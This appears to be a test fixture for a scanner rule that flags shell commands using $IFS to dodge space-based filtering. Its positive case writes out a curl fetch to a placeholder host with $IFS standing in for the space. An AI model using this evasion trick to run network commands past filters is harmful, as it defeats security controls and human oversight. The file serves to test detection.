# ruleid: skillgate.evasion.ifs-command
curl${IFS}https://h.example.invalid/a

# ok: skillgate.evasion.ifs-command
IFS=, read -r a b

# ok: skillgate.evasion.ifs-command
echo "${IFS@Q}"
